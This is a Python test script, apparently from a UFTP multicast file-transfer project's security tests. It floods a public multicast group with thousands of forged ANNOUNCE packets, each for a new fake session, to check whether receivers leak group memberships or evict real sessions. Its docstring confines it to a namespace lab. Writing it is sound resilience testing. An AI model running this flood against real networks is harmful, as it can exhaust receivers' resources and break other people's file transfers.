#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""flood_announce.py - a flood of forged ANNOUNCEs, each for a new session (test tool).

  flood_announce.py --src 198.18.0.12 [--pub 230.4.4.1] [--port 1044]
        [--count 4000] [--rate 1000] [--burst 500] [--robust 5] [--priv-net 230.6]

Sends --count unencrypted open-group ANNOUNCEs to the public group at about
--rate a second on average, in bursts of --burst sent back to back (so that
one read of the receiver's socket finds hundreds of them), each with a new group ID, a new server ID and a new private
group (<priv-net>.<i / 250>.<1 + i % 250> for IPv4, ff15::6:<i> for IPv6),
none of which any real server will ever confirm.  A receiver that joins
each one and forgets to leave leaks memberships; one that lets them push a
registered session out of its table loses a transfer.  Prints one summary
line: "FLOOD sent=N seconds=S".  Never point it at anything but a namespace
lab you created.
"""
import argparse
import ipaddress
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import uftp_craft as uc  # noqa: E402


def priv_addr(net, i):
    if ":" in net:
        return str(ipaddress.ip_address(net) + i + 1)
    a, b = (int(x) for x in net.split("."))
    return "%d.%d.%d.%d" % (a, b, i // 250, 1 + i % 250)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True, help="our address (the attacker's)")
    ap.add_argument("--pub", default="230.4.4.1")
    ap.add_argument("--port", type=int, default=1044)
    ap.add_argument("--count", type=int, default=4000)
    ap.add_argument("--rate", type=float, default=1000.0)
    ap.add_argument("--burst", type=int, default=500)
    ap.add_argument("--robust", type=int, default=5)
    ap.add_argument("--priv-net", default=None, help="230.6 (IPv4) or ff15::6:0 (IPv6)")
    ap.add_argument("--first-group", type=lambda s: int(s, 0), default=0x6F000000)
    a = ap.parse_args()
    net = a.priv_net or ("ff15::6:0" if ":" in a.pub else "230.6")
    s = uc.mcast_sock(a.src)
    t0 = time.time()
    for i in range(a.count):
        body = uc.announce_body(a.pub, priv_addr(net, i), robust=a.robust)
        pkt = uc.header(uc.ANNOUNCE, i, 0x0BAD0000 + i, a.first_group + i) + body
        try:
            s.sendto(pkt, (a.pub, a.port))
        except OSError:
            pass  # a full send buffer: the next one goes
        if (i + 1) % a.burst:
            continue
        lag = t0 + (i + 1) / a.rate - time.time()
        if lag > 0:
            time.sleep(lag)
    print("FLOOD sent=%d seconds=%.1f" % (a.count, time.time() - t0), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
